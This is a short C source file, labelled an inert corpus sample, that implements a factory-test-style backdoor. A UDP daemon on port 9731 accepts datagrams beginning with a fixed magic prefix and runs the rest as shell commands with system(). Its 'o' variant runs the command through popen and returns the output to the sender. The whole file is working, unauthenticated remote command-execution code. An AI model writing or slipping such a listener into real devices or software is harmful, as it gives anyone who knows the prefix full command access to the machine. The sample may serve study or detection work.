/* Corpus sample (inert: compiled, never run). Written here from scratch: a daemon on a UDP
 * port that runs shell commands sent to it after a magic prefix (a factory-test backdoor).
 * A datagram starting with a string literal runs the rest with system(); 'o' before the
 * command sends its output back with popen. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define PREFIX "bsight-corpus-mfg"

int main(void)
{
	struct sockaddr_in local, peer;
	char datagram[1500], output[1024];
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&local, 0, sizeof local);
	local.sin_family = AF_INET;
	local.sin_port = htons(9731);
	if (bind(s, (struct sockaddr *)&local, sizeof local) != 0)
		return 1;
	for (;;) {
		socklen_t peer_length = sizeof peer;
		ssize_t n = recvfrom(s, datagram, sizeof datagram - 1, 0, (struct sockaddr *)&peer, &peer_length);
		if (n <= (ssize_t)sizeof PREFIX)
			continue;
		datagram[n] = 0;
		if (strncmp(datagram, PREFIX, sizeof PREFIX - 1) != 0)
			continue;
		char *command = datagram + sizeof PREFIX;
		if (datagram[sizeof PREFIX - 1] != 'o') {
			system(command);
			continue;
		}
		FILE *pipe = popen(command, "r");
		if (pipe == 0)
			continue;
		size_t got = fread(output, 1, sizeof output, pipe);
		pclose(pipe);
		sendto(s, output, got, 0, (struct sockaddr *)&peer, peer_length);
	}
}
